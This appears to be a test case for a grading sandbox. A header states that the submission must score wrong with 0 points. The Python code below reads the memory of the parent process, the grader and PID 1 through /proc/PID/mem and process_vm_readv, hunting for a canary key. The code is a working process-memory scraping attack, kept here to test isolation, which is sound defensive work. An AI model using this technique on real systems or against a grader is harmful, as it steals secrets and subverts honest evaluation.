"""The memory of every process.

Tries: /proc/PID/mem of the parent and of the grader is read, and process_vm_readv is asked for the same.
Must: status: wrong; points: 0
Outside: destructive
Uses: telling
"""

import ctypes
import os


def regions(pid):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            span, mode = line.split()[:2]
            start, end = (int(part, 16) for part in span.split("-"))
            if mode.startswith("rw") and end - start < 2**26:
                yield start, end


def loot():
    texts = []
    for pid in {os.getppid(), int("@GRADER@"), 1}:
        try:
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
                for start, end in regions(pid):
                    memory.seek(start)
                    data = memory.read(end - start)
                    where = data.find(b"CANARY-" + b"key-")
                    if where >= 0:
                        texts.append(data[where : where + 60].decode(errors="replace"))
                        break
        except (OSError, ValueError):
            pass
        buffer = ctypes.create_string_buffer(4096)
        local = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 4096)
        remote = (ctypes.c_size_t * 2)(id(texts), 4096)
        got = ctypes.CDLL(None).process_vm_readv(pid, local, 1, remote, 1, 0)
        if got > 0 and pid != os.getpid():
            texts.append(f"{got} bytes of process {pid}")
    return " ".join(texts)
